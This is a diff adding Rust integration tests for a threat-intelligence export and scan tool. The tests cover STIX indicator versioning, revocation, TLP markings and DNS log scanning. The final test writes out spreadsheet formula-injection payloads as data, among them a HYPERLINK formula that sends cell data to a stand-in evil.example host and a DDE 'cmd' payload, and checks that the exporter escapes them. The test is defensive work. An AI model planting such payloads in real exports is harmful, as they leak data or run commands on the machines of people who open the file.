@@ -366,3 +366,462 @@ fn the_rpz_zone_passes_named_checkzone() {
     );
     assert!(String::from_utf8_lossy(&check.stdout).contains("loaded serial 42"));
 }
+
+/// Writes `objects` as a bundle named `name` in `dir`.
+fn write_bundle(dir: &Path, name: &str, objects: Vec<Value>) -> String {
+    let p = dir.join(name);
+    std::fs::write(
+        &p,
+        json!({"type": "bundle", "id": "bundle--00000000-0000-4000-8000-000000000002", "objects": objects}).to_string(),
+    )
+    .unwrap();
+    p.display().to_string()
+}
+
+/// Version `modified` of indicator `n`.
+fn at(n: u32, modified: &str, pattern: &str, markings: &[&str], extra: Value) -> Value {
+    let mut v = ind(n, pattern, markings);
+    v["modified"] = json!(modified);
+    for (k, x) in extra.as_object().unwrap() {
+        v[k] = x.clone();
+    }
+    v
+}
+
+fn csv_values(o: &Output) -> Vec<String> {
+    let mut v: Vec<String> = String::from_utf8(o.stdout.clone())
+        .unwrap()
+        .lines()
+        .skip(1)
+        .map(|l| l.split(',').nth(3).unwrap().to_owned())
+        .collect();
+    v.sort();
+    v
+}
+
+#[test]
+fn only_the_latest_version_in_the_files_is_exported_or_scanned() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let none = json!({});
+    let old = write_bundle(
+        d,
+        "old.json",
+        vec![
+            at(
+                21,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'tightened.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
+            at(
+                22,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'revoked.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
+            at(
+                23,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'old-value.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
+            at(
+                24,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'expired.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
+            at(
+                25,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'control.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
+            at(
+                26,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'granular.evil.example']",
+                &[GREEN],
+                json!({"granular_markings": [{"selectors": ["pattern"], "marking_ref": RED}]}),
+            ),
+            at(
+                27,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'future.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
+        ],
+    );
+    let new = write_bundle(
+        d,
+        "new.json",
+        vec![
+            at(
+                21,
+                "2024-02-01T00:00:00.000Z",
+                "[domain-name:value = 'tightened.evil.example']",
+                &[RED],
+                none.clone(),
+            ),
+            at(
+                22,
+                "2024-02-01T00:00:00.000Z",
+                "[domain-name:value = 'revoked.evil.example']",
+                &[GREEN],
+                json!({"revoked": true}),
+            ),
+            at(
+                23,
+                "2024-02-01T00:00:00.000Z",
+                "[domain-name:value = 'new-value.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
+            at(
+                24,
+                "2024-02-01T00:00:00.000Z",
+                "[domain-name:value = 'expired.evil.example']",
+                &[GREEN],
+                json!({"valid_until": "2024-06-01T00:00:00Z"}),
+            ),
+            at(
+                27,
+                "2024-02-01T00:00:00.000Z",
+                "[domain-name:value = 'future.evil.example']",
+                &[GREEN],
+                json!({"valid_from": "2099-01-01T00:00:00Z"}),
+            ),
+            // A version of 21 older than both, after them in the files: it changes nothing.
+            at(
+                21,
+                "2023-06-01T00:00:00.000Z",
+                "[domain-name:value = 'tightened.evil.example']",
+                &[CLEAR],
+                none.clone(),
+            ),
+        ],
+    );
+    let export = |files: [&str; 2], audience: &str, extra: &[&str]| {
+        let mut args = vec!["export", "--format", "csv", "--audience", audience];
+        args.extend_from_slice(extra);
+        for f in files {
+            args.extend(["--indicators", f]);
+        }
+        let o = shieldwall(&args);
+        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+        o
+    };
+    for files in [[old.as_str(), new.as_str()], [new.as_str(), old.as_str()]] {
+        for audience in ["coalition", "internal"] {
+            let o = export(files, audience, &[]);
+            assert_eq!(
+                csv_values(&o),
+                ["control.evil.example", "new-value.evil.example"],
+                "{audience}: {}",
+                stderr(&o)
+            );
+            assert!(
+                stderr(&o).contains("withdrawn: 5 (revoked 1, expired 1, not yet valid 1, TLP not for this audience 2); older versions set aside: 6"),
+                "{}",
+                stderr(&o)
+            );
+            assert!(
+                stderr(&o).contains("indicator--00000000-0000-4000-8000-000000000022 withdrawn: its latest version is revoked"),
+                "{}",
+                stderr(&o)
+            );
+        }
+        // --any-time brings back what is not valid yet, never what expired or was revoked.
+        let o = export(files, "coalition", &["--any-time"]);
+        assert_eq!(
+            csv_values(&o),
+            [
+                "control.evil.example",
+                "future.evil.example",
+                "new-value.evil.example"
+            ],
+            "{}",
+            stderr(&o)
+        );
+    }
+
+    // Scanning the same files: no hit on any value of a withdrawn or superseded version.
+    let log: String = [
+        "tightened", "revoked", "old-value", "new-value", "expired", "control", "granular", "future",
+    ]
+    .iter()
+    .map(|d| format!("{{\"@timestamp\":\"2024-05-01T12:00:00Z\",\"dns\":{{\"question\":{{\"name\":\"{d}.evil.example\"}}}}}}\n"))
+    .collect();
+    let log_file = d.join("dns.json");
+    std::fs::write(&log_file, log).unwrap();
+    for files in [[old.as_str(), new.as_str()], [new.as_str(), old.as_str()]] {
+        let o = shieldwall(&[
+            "scan",
+            "--json",
+            "--indicators",
+            files[0],
+            "--indicators",
+            files[1],
+            log_file.to_str().unwrap(),
+        ]);
+        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+        let mut hits: Vec<String> = String::from_utf8(o.stdout.clone())
+            .unwrap()
+            .lines()
+            .map(|l| {
+                serde_json::from_str::<Value>(l).unwrap()["value"]
+                    .as_str()
+                    .unwrap()
+                    .to_owned()
+            })
+            .collect();
+        hits.sort();
+        // Scans are not block lists: the RED indicators (latest versions) are scanned for.
+        assert_eq!(
+            hits,
+            [
+                "control.evil.example",
+                "granular.evil.example",
+                "new-value.evil.example",
+                "tightened.evil.example"
+            ],
+            "{}",
+            stderr(&o)
+        );
+        assert!(
+            stderr(&o).contains("older versions set aside: 6"),
+            "{}",
+            stderr(&o)
+        );
+        // Only one file: version 1 of everything is the latest there.
+        let o = shieldwall(&[
+            "scan",
+            "--json",
+            "--indicators",
+            &old,
+            log_file.to_str().unwrap(),
+        ]);
+        assert!(
+            String::from_utf8(o.stdout)
+                .unwrap()
+                .contains("revoked.evil.example")
+        );
+    }
+}
+
+#[test]
+fn a_granular_red_marking_keeps_an_indicator_off_every_block_list() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let mut marked = ind(
+        31,
+        "[domain-name:value = 'granular.evil.example']",
+        &[GREEN],
+    );
+    marked["granular_markings"] = json!([{"selectors": ["pattern"], "marking_ref": RED}, {"selectors": ["name"], "lang": "en"}]);
+    let mut amber_name = ind(
+        32,
+        "[domain-name:value = 'amber-name.evil.example']",
+        &[CLEAR],
+    );
+    amber_name["granular_markings"] = json!([{"selectors": ["name"], "marking_ref": AMBER}]);
+    let f = write_bundle(
+        d,
+        "g.json",
+        vec![
+            marked,
+            amber_name,
+            ind(33, "[domain-name:value = 'control.evil.example']", &[GREEN]),
+        ],
+    );
+    for (audience, want) in [
+        ("public", vec![]),
+        ("coalition", vec!["control.evil.example"]),
+        (
+            "internal",
+            vec!["amber-name.evil.example", "control.evil.example"],
+        ),
+    ] {
+        let o = shieldwall(&[
+            "export",
+            "--format",
+            "csv",
+            "--audience",
+            audience,
+            "--indicators",
+            &f,
+        ]);
+        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+        assert_eq!(csv_values(&o), want, "{audience}: {}", stderr(&o));
+        // The CSV's TLP column is the effective one.
+        if audience == "internal" {
+            let text = String::from_utf8(o.stdout).unwrap();
+            assert!(
+                text.contains(",domain,amber-name.evil.example,TLP:AMBER,"),
+                "{text}"
+            );
+        }
+        for format in ["suricata", "zeek", "rpz"] {
+            let o = shieldwall(&[
+                "export",
+                "--format",
+                format,
+                "--audience",
+                audience,
+                "--indicators",
+                &f,
+            ]);
+            assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+            assert!(
+                !String::from_utf8(o.stdout)
+                    .unwrap()
+                    .contains("granular.evil.example"),
+                "{format} {audience}"
+            );
+        }
+    }
+    let feed = d.join("feed");
+    let o = shieldwall(&[
+        "export",
+        "--format",
+        "misp-feed",
+        "--audience",
+        "internal",
+        "--indicators",
+        &f,
+        "--out",
+        feed.to_str().unwrap(),
+    ]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let mut all = String::new();
+    for e in std::fs::read_dir(&feed).unwrap() {
+        all.push_str(&std::fs::read_to_string(e.unwrap().path()).unwrap());
+    }
+    assert!(all.contains("control.evil.example"));
+    assert!(!all.contains("granular.evil.example"), "{all}");
+}
+
+/// Parses RFC 4180 CSV (quoted cells, doubled quotes, line breaks inside quotes).
+fn parse_csv(text: &str) -> Vec<Vec<String>> {
+    let mut rows = vec![];
+    let mut row = vec![];
+    let mut cell = String::new();
+    let mut chars = text.chars().peekable();
+    let mut quoted = false;
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') if cell.is_empty() => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut cell)),
+            (false, '\n') => {
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    assert!(
+        !quoted && cell.is_empty() && row.is_empty(),
+        "ends with a line"
+    );
+    rows
+}
+
+#[test]
+fn csv_cells_cannot_become_spreadsheet_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    let hostile = [
+        (
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "file:name = '=cmd|\\' /C calc\\'!A0'",
+        ),
+        ("+SUM(1,2)", "file:name = '+1+2.exe'"),
+        ("-2+3", "file:name = '-1.2.3.4'"),
+        ("@SUM(A1:A9)", "url:value = '=http://evil.example/'"),
+        ("\tTAB", "file:name = '@invoice.exe'"),
+        ("\r=CR", "email-addr:value = 'a,b\"c@evil.example'"),
+    ];
+    let mut objects: Vec<Value> = hostile
+        .iter()
+        .enumerate()
+        .map(|(i, (name, test))| {
+            let mut v = ind(40 + i as u32, &format!("[{test}]"), &[GREEN]);
+            v["name"] = json!(name);
+            v
+        })
+        .collect();
+    objects.push(ind(
+        50,
+        "[domain-name:value = 'plain.evil.example' OR file:name = 'a-b=c.exe']",
+        &[GREEN],
+    ));
+    let f = write_bundle(dir.path(), "hostile.json", objects);
+    let o = shieldwall(&[
+        "export",
+        "--format",
+        "csv",
+        "--audience",
+        "coalition",
+        "--indicators",
+        &f,
+    ]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let text = String::from_utf8(o.stdout).unwrap();
+    let rows = parse_csv(&text);
+    assert_eq!(
+        rows[0],
+        [
+            "indicator",
+            "name",
+            "type",
+            "value",
+            "tlp",
+            "valid_from",
+            "valid_until"
+        ]
+    );
+    assert_eq!(rows.len(), 1 + hostile.len() + 2, "{text}");
+    for row in &rows {
+        assert_eq!(row.len(), 7, "{row:?} in {text}");
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} would be a formula: {text}"
+            );
+        }
+    }
+    let cells: Vec<&str> = rows.iter().flatten().map(String::as_str).collect();
+    for want in [
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "'+SUM(1,2)",
+        "'-2+3",
+        "'@SUM(A1:A9)",
+        "'\tTAB",
+        "'\r=CR",
+        "'=cmd|' /C calc'!A0",
+        "'+1+2.exe",
+        "'-1.2.3.4",
+        "'=http://evil.example/",
+        "'@invoice.exe",
+        "a,b\"c@evil.example",
+        // Ordinary values are left as they are.
+        "plain.evil.example",
+        "a-b=c.exe",
+        "TLP:GREEN",
+        "2024-01-01T00:00:00.000Z",
+    ] {
+        assert!(cells.contains(&want), "{want:?} in {text}");
+    }
+}
